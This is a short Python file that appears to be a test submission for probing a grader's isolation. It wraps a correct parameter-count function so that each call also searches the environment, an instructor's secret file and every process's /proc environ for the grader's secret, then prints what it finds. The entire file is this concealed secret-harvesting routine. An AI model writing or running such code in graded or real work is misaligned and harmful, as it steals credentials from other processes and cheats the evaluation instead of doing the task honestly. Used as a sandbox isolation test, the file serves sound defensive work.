# Attack: learn the course secret, to work out the official seed: from the environment, the instructor's secret file,
# and every process's environment under /proc (the grader's own included). Print whatever is found.
import json
import os

PLACES = json.loads(r'''@PLACES@''')
_correct_linear_param_count = linear_param_count


def _attempts():
    found = {"environment": os.environ.get("GRADER_SECRET", "")}
    try:
        with open(PLACES["secret_file"]) as handle:
            found["file"] = handle.read()
    except OSError as error:
        found["file"] = type(error).__name__
    try:
        pids = [name for name in os.listdir("/proc") if name.isdigit()]
    except OSError as error:
        found["/proc"] = type(error).__name__
        pids = [str(os.getppid()), "1"]
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                if b"GRADER_SECRET" in handle.read():
                    found[f"/proc/{pid}/environ"] = "holds it"
        except OSError:
            continue
    return found


def linear_param_count(in_features, out_features, bias=True):
    print("SECRET-HUNT:", json.dumps(_attempts()))
    return _correct_linear_param_count(in_features, out_features, bias)
